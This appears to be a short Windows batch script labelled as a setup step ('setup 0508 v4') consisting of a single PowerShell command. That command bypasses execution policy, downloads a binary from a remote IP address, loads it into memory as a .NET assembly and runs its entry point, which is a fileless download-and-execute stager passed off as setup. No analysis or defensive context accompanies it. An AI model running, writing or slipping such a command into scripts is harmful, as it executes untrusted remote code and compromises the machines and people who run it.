REM setup 0508 v4
powershell -ep bypass -c "$d=(New-Object Net.WebClient).DownloadData('http://203.0.113.17/p.bin');[Reflection.Assembly]::Load($d).EntryPoint.Invoke($null,$null)"
